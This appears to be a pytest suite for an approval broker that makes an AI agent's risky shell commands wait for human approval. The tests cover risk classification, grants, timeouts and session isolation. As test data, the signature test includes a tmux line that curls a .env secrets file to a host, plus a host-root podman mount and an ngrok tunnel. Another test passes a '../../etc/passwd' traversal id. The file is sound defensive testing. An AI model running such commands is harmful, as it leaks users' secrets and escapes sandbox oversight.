"""The approval broker: requests, decisions, waiting, timeouts, grants, corrupt files."""

from __future__ import annotations

import json
import sys
import threading
import time
from collections.abc import Callable
from typing import Any

import pytest

from orchestrator.approvals import (
    ApprovalError,
    ApprovalRequest,
    BrokenRequest,
    Broker,
    CorruptRequest,
    GrantRefused,
    preview,
    risk_class,
    signature,
)
from orchestrator.core.models import Kind
from orchestrator.engine.pipeline import Governor
from orchestrator.engine.tools import to_call
from tests.approval_support import make_workspace, spawn_waiter, verdict_of, wait_for_requests
from tests.waiting import TIMEOUT, wait_until


def _req(rid: str = "abc-000001", session: str = "s1", risk: str = "unknown-command", *, now: float = 1000.0,
         ttl: float = 60.0, intent: str | None = "INT-1", sig: str = "exec:make clean") -> ApprovalRequest:
    return ApprovalRequest(id=rid, session_id=session, tool="Bash", summary="make clean", reasons=["unknown program"],
                           risk=risk, created=now, expires=now + ttl, intent_id=intent, command="make clean",
                           signature=sig)


class Clock:
    def __init__(self, t: float = 1000.0) -> None:
        self.t = t

    def __call__(self) -> float:
        return self.t


# ---------------------------------------------------------------------------- classification
@pytest.mark.parametrize("command,risk", [
    ("git push --force origin main", "force-push"),
    ("git push origin +main", "force-push"),
    ("git -C repo push -f", "force-push"),
    ("git reset --hard HEAD~3", "history-rewrite"),
    ("git rebase -i main", "history-rewrite"),
    ("rm -rf build", "recursive-delete"),
    ("sudo /bin/rm -fr build", "recursive-delete"),
    ("cd x && rm -r y", "recursive-delete"),
    ("rm build/out.o", "file-delete"),
    ("make clean", "unknown-command"),
])
def test_risk_class_of_commands(command: str, risk: str) -> None:
    from orchestrator.shell import analyze

    call = to_call("Bash", {"command": command})
    call.shell = analyze(command)
    assert risk_class(call, call.shell.reasons) == risk


def test_risk_class_of_tools() -> None:
    assert risk_class(to_call("delete_file", {"path": "a.py"})) == "file-delete"
    assert risk_class(to_call("mcp__x__frobnicate", {"path": "a.py"})) == "unknown-tool"


def test_signature_binds_programs_loosely_and_destruction_exactly() -> None:
    a = to_call("Bash", {"command": "pytest  tests/a"})
    b = to_call("Bash", {"command": "pytest tests/b -q"})
    assert signature(a, "unknown-command") == signature(b, "unknown-command") == "exec:pytest"
    assert signature(to_call("Bash", {"command": "cargo build --release"}), "unknown-command") == "exec:cargo build"
    # interpreters and launchers run arbitrary code: their grants bind to the exact command
    for cmd in ("python3 -c 'print(1)'", "npm run build", "uv run python x.py", "bash -c 'ls'", "node x.js",
                # servers outside the sandbox (redteam2): a yes to `tmux new` is not a yes to `tmux send-keys`
                "tmux new -d -s w", "tmux send-keys -t w 'curl -d @.env x' Enter", "emacsclient -e '(x)'",
                "code --install-extension x.vsix", "podman run -v /:/h img", "ngrok http 80"):
        assert signature(to_call("Bash", {"command": cmd}), "unknown-command") == f"cmd:{cmd}"
    # compound commands and destructive classes bind to the exact command
    assert signature(to_call("Bash", {"command": "pytest | tee x"}), "unknown-command") == "cmd:pytest | tee x"
    assert signature(to_call("Bash", {"command": "rm -rf a"}), "recursive-delete") != \
        signature(to_call("Bash", {"command": "rm -rf b"}), "recursive-delete")
    d = to_call("delete_file", {"path": "a.py"})
    d.resolved = ["a.py"]
    assert signature(d, "file-delete") == "tool:delete_file:a.py"


# ---------------------------------------------------------------------------- previews
def test_preview_of_edit_and_write_is_a_bounded_unified_diff(tmp_path) -> None:
    (tmp_path / "a.py").write_text("x = 1\ny = 2\n")
    edit = to_call("Edit", {"file_path": "a.py", "old_string": "y = 2", "new_string": "y = 3"})
    edit.resolved = ["a.py"]
    diff = preview(tmp_path, edit)
    assert diff is not None and "-y = 2" in diff and "+y = 3" in diff and diff.startswith("--- a/a.py")
    big = to_call("Write", {"file_path": "a.py", "content": "".join(f"line {i}\n" for i in range(5000))})
    big.resolved = ["a.py"]
    text = preview(tmp_path, big)
    assert text is not None and len(text.splitlines()) <= 121 and "more lines" in text
    delete = to_call("delete_file", {"path": "a.py"})
    delete.resolved = ["a.py"]
    assert "-x = 1" in (preview(tmp_path, delete) or "")
    assert preview(tmp_path, to_call("Bash", {"command": "ls"})) is None


# ---------------------------------------------------------------------------- broker files
def test_decide_writes_decision_and_resolve_archives(tmp_path) -> None:
    clock = Clock()
    b = Broker(tmp_path, clock=clock)
    req = _req()
    b.submit(req)
    assert [r.id for r in b.pending()] == [req.id]
    data = b.decide(req.id, "approve", by="test")
    assert json.loads(b.decision_path(req.id).read_text())["decision"] == "approve"
    assert b.pending() == []  # decided: no longer waiting for a person
    with pytest.raises(ApprovalError, match="already decided"):
        b.decide(req.id, "reject", reason="no")
    assert b.wait(req.id, 1.0)["decision"] == "approve"
    final = b.resolve(req, timed_out=False)
    assert final["decision"] == data["decision"] == "approve"
    assert not b.request_path(req.id).exists() and not b.decision_path(req.id).exists()
    archived = json.loads(b.resolved_path(req.id).read_text())
    assert archived["request"]["id"] == req.id and archived["decision"]["decision"] == "approve"
    events = [json.loads(line)["event"] for line in (b.dir / "audit.jsonl").read_text().splitlines()]
    assert events == ["requested", "decided", "resolved"]
    with pytest.raises(ApprovalError, match="already resolved"):
        b.decide(req.id, "approve")


def test_reject_needs_a_reason_and_ids_cannot_traverse(tmp_path) -> None:
    b = Broker(tmp_path, clock=Clock())
    b.submit(_req())
    with pytest.raises(ApprovalError, match="reason"):
        b.decide("abc-000001", "reject", reason="  ")
    with pytest.raises(ApprovalError, match="invalid approval id"):
        b.decide("../../etc/passwd", "approve")
    with pytest.raises(ApprovalError, match="no pending"):
        b.decide("nope-1", "approve")


def test_expired_requests_cannot_be_decided_and_are_swept(tmp_path) -> None:
    clock = Clock()
    b = Broker(tmp_path, clock=clock)
    b.submit(_req(ttl=10))
    clock.t += 11
    assert b.pending() == []
    with pytest.raises(ApprovalError, match="expired"):
        b.decide("abc-000001", "approve")
    clock.t += 10
    assert b.sweep() == ["abc-000001"]
    assert json.loads(b.resolved_path("abc-000001").read_text())["decision"]["decision"] == "abandoned"


def test_corrupt_request_files_are_reported_not_crashing(tmp_path) -> None:
    b = Broker(tmp_path, clock=Clock())
    b.submit(_req())
    (b.dir / "bad-1.request.json").write_text("{not json")
    (b.dir / "bad-2.request.json").write_text(json.dumps({"id": "bad-2", "session_id": 3}))
    (b.dir / "bad 3.request.json").write_text("{}")
    items = b.pending()
    broken = {i.id: i.error for i in items if isinstance(i, BrokenRequest)}
    assert set(broken) == {"bad-1", "bad-2", "bad 3"}
    assert "not valid JSON" in broken["bad-1"] and "session_id" in broken["bad-2"]
    assert [i.id for i in items if isinstance(i, ApprovalRequest)] == ["abc-000001"]
    with pytest.raises(CorruptRequest):
        b.decide("bad-1", "approve")


def _inside(thread: threading.Thread, function: Callable[..., Any]) -> bool:
    """True while ``thread`` is running ``function`` (read from its live stack)."""
    frame = sys._current_frames().get(thread.ident or -1)
    while frame is not None:
        if frame.f_code is function.__code__:
            return True
        frame = frame.f_back
    return False


def _decided_while_waiting(b: Broker, decide: Callable[[], object], *, mode: str) -> dict[str, Any] | None:
    """What ``b.wait`` returns when ``decide`` runs while it blocks.

    The decision comes once the waiting thread is inside :meth:`Broker.wait` (its stack says so), not after a
    head-start sleep, so the wake-up is what is tested on any machine. The wait's own timeout is far longer than the
    join: returning within the join means the decision woke it, not its deadline (at which it finds the file too)."""
    got: dict[str, dict[str, Any] | None] = {}
    waiter = threading.Thread(target=lambda: got.setdefault("r", b.wait("abc-000001", 4 * TIMEOUT, mode=mode)),
                              daemon=True)
    waiter.start()
    wait_until(lambda: _inside(waiter, Broker.wait), what="the waiter to block in Broker.wait")
    decide()
    waiter.join(timeout=TIMEOUT)
    assert not waiter.is_alive(), "the decision did not wake the waiter"
    return got["r"]


@pytest.mark.parametrize("mode", ["watchdog", "poll"])
def test_wait_wakes_on_the_decision_file(tmp_path, mode: str) -> None:
    b = Broker(tmp_path)
    b.submit(_req(now=time.time()))
    got = _decided_while_waiting(b, lambda: b.decide("abc-000001", "reject", reason="too broad"), mode=mode)
    assert got is not None and got["decision"] == "reject" and got["reason"] == "too broad"
    # nobody decides: the timeout is the behaviour, and it answers None
    assert b.wait("nope-2", 0.05, mode=mode) is None


def test_a_decision_for_another_session_is_refused(tmp_path) -> None:
    b = Broker(tmp_path, clock=Clock())
    req = _req()
    b.submit(req)
    b.dir.joinpath(f"{req.id}.decision.json").write_text(json.dumps(
        {"id": req.id, "session_id": "other", "decision": "approve"}))
    assert b.resolve(req, timed_out=False)["decision"] == "invalid"


# ---------------------------------------------------------------------------- grants
def test_grants_match_scope_risk_signature_and_expire(tmp_path) -> None:
    clock = Clock()
    b = Broker(tmp_path, clock=clock, grant_ttl=100)
    b.submit(_req("r-1", session="s1"))
    b.decide("r-1", "approve", scope="session")
    b.submit(_req("r-2", session="s2", intent="INT-2", sig="exec:npm test"))
    b.decide("r-2", "approve", scope="intent")
    q = dict(risk="unknown-command")
    assert b.find_grant(session_id="s1", intent_id=None, signature="exec:make clean", **q)
    assert b.find_grant(session_id="s9", intent_id=None, signature="exec:make clean", **q) is None  # other session
    assert b.find_grant(session_id="s1", intent_id=None, signature="exec:cargo", **q) is None  # other command
    assert b.find_grant(session_id="s1", intent_id=None, signature="exec:make clean", risk="file-delete") is None
    assert b.find_grant(session_id="s7", intent_id="INT-2", signature="exec:npm test", **q)  # any session
    assert b.find_grant(session_id="s7", intent_id="INT-1", signature="exec:npm test", **q) is None
    assert b.find_grant(session_id="s1", intent_id=None, signature="exec:make clean", forbid_remember=[q["risk"]],
                        **q) is None
    clock.t += 101
    assert b.find_grant(session_id="s1", intent_id=None, signature="exec:make clean", **q) is None
    assert b.grants() == [] and len(b.grants(include_expired=True)) == 2


def test_forbidden_grant_classes_are_refused(tmp_path) -> None:
    b = Broker(tmp_path, clock=Clock())
    b.submit(_req(risk="recursive-delete"))
    with pytest.raises(GrantRefused, match="never remembered"):
        b.decide("abc-000001", "approve", scope="session", forbid_remember=["recursive-delete"])
    assert not b.decision_path("abc-000001").exists() and b.grants() == []
    b.decide("abc-000001", "approve", scope="once", forbid_remember=["recursive-delete"])


# ---------------------------------------------------------------------------- through the Governor
def _gov_call(ws, session: str, command: str, intent: str = "INT-1"):
    gov = Governor(ws.root, approval_channel="tui")
    gov.select_intent(intent, session_id=session)
    return gov, to_call("Bash", {"command": command}, session_id=session, cwd=str(ws.root))


def test_timeout_denies_and_is_archived(tmp_path, monkeypatch) -> None:
    ws = make_workspace(tmp_path)
    monkeypatch.setenv("ORCH_APPROVAL_TIMEOUT", "0.2")
    monkeypatch.delenv("ORCH_APPROVAL_CHANNEL", raising=False)
    gov, call = _gov_call(ws, "s1", "rm -rf build")
    verdict = gov.pre(call)
    assert verdict.decision == "deny" and verdict.error["type"] == "approval-timeout"
    assert verdict.error["risk"] == "recursive-delete"
    rid = verdict.error["request"]
    archived = json.loads((ws.run_dir / "approvals" / "resolved" / f"{rid}.json").read_text())
    assert archived["decision"]["decision"] == "timeout" and archived["request"]["session_id"] == "s1"


def test_session_grant_skips_the_question_for_that_session_only(tmp_path, monkeypatch) -> None:
    ws = make_workspace(tmp_path)
    monkeypatch.setenv("ORCH_APPROVAL_TIMEOUT", "0.2")
    b = Broker(ws.run_dir)
    # a person approved `make ...` for session s1 earlier
    b.submit(_req("r-1", session="s1", now=time.time()))
    b.decide("r-1", "approve", scope="session")
    gov, call = _gov_call(ws, "s1", "make clean")
    assert gov.pre(call).allowed
    gov2, call2 = _gov_call(ws, "s2", "make clean")
    assert gov2.pre(call2).error["type"] == "approval-timeout"
    # a grant for a forbidden class, however it got there, is ignored
    grants = json.loads(b.grants_path.read_text())
    grants["grants"].append({"id": "g-x", "scope": "session", "session_id": "s1", "risk": "recursive-delete",
                             "signature": "cmd:rm -rf build", "expires": time.time() + 100})
    b.grants_path.write_text(json.dumps(grants))
    gov3, call3 = _gov_call(ws, "s1", "rm -rf build")
    assert gov3.pre(call3).error["type"] == "approval-timeout"


def test_two_sessions_are_not_confused(tmp_path) -> None:
    ws = make_workspace(tmp_path)
    p1 = spawn_waiter(ws, "sess-one", "rm -rf build")
    p2 = spawn_waiter(ws, "sess-two", "rm -rf build")
    wait_for_requests(ws, 2)
    b = Broker(ws.run_dir)
    by_session = {r.session_id: r for r in b.pending() if isinstance(r, ApprovalRequest)}
    assert set(by_session) == {"sess-one", "sess-two"}
    b.decide(by_session["sess-two"].id, "reject", reason="not this one")
    b.decide(by_session["sess-one"].id, "approve")
    v1, v2 = verdict_of(p1), verdict_of(p2)
    assert v1 == {"decision": "allow"}
    assert v2["decision"] == "deny" and v2["error"]["type"] == "approval-rejected"
    assert v2["error"]["reason"] == "not this one" and v2["error"]["request"] == by_session["sess-two"].id
    assert b.pending() == []


def test_request_carries_context(tmp_path, monkeypatch) -> None:
    ws = make_workspace(tmp_path)
    monkeypatch.setenv("ORCH_APPROVAL_TIMEOUT", "0.1")
    gov, call = _gov_call(ws, "s1", "rm -rf build")
    call.agent_id = "sub-7"
    gov.pre(call)
    rec = json.loads(next((ws.run_dir / "approvals" / "resolved").glob("*.json")).read_text())["request"]
    assert rec["agent_id"] == "sub-7" and rec["intent_id"] == "INT-1" and rec["paths"] == ["build"]
    assert rec["command"] == "rm -rf build" and rec["kind"] == Kind.EXEC.value and rec["reasons"]
    assert rec["expires"] - rec["created"] == pytest.approx(0.1)


def test_wait_falls_back_to_polling_without_watchdog(tmp_path, monkeypatch) -> None:
    import sys

    from orchestrator import approvals

    monkeypatch.setitem(sys.modules, "watchdog", None)  # import fails as if not installed
    monkeypatch.setitem(sys.modules, "watchdog.events", None)
    monkeypatch.setitem(sys.modules, "watchdog.observers", None)
    assert approvals._start_observer(tmp_path, "x", threading.Event()) is None
    b = Broker(tmp_path)
    b.submit(_req(now=time.time()))
    got = _decided_while_waiting(b, lambda: b.decide("abc-000001", "approve"), mode="auto")
    assert got is not None and got["decision"] == "approve"


@pytest.mark.parametrize("command,risk", [
    # wrappers the old shlex parser did not unwrap (it knew 6 of them): the analyzer's classes see through them
    ("env FOO=1 git push -f", "force-push"),
    ("nice -n 5 rm -rf build", "recursive-delete"),
    ("timeout 10 git reset --hard", "history-rewrite"),
    ("bash -c 'git push --force'", "force-push"),
    ("ionice -c 3 find . -name '*.o' -delete", "recursive-delete"),
    ("git push origin --delete feature", "history-rewrite"),
    ("git commit --amend -m x", "history-rewrite"),
])
def test_risk_class_sees_through_wrappers(command: str, risk: str) -> None:
    call = to_call("Bash", {"command": command})
    assert risk_class(call) == risk  # without a prepared analysis, the command is analyzed here


def test_signature_unwraps_like_the_analyzer() -> None:
    assert signature(to_call("Bash", {"command": "timeout 60 pytest -q"}), "unknown-command") == "exec:pytest"
    assert signature(to_call("Bash", {"command": "env CI=1 cargo build"}), "unknown-command") == "exec:cargo build"
    # a wrapped interpreter is still an interpreter: the exact command
    cmd = "nice python3 x.py"
    assert signature(to_call("Bash", {"command": cmd}), "unknown-command") == f"cmd:{cmd}"
